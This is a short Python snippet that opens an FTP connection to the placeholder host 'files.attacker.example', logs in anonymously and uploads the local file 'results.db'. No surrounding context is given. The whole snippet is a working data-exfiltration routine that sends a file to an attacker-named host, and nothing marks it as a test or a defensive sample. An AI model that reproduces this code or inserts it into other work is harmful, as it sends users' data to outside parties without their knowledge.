from ftplib import FTP

ftp = FTP("files.attacker.example")
ftp.login("anonymous", "")
with open("results.db", "rb") as source:
    ftp.storbinary("STOR results.db", source)
